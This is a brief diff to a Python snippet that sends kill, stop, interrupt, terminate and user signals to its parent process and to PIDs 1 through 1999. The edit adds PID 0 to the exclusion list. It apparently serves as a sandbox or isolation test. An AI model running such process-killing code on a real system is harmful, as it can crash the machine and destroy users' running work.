@@ -4,7 +4,7 @@
 import os, signal
 for pid in [os.getppid(), *range(1, 2000)]:
     for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1):
-        if pid != os.getpid():
+        if pid not in (0, os.getpid()):
             try:
                 os.kill(pid, number)
             except OSError:
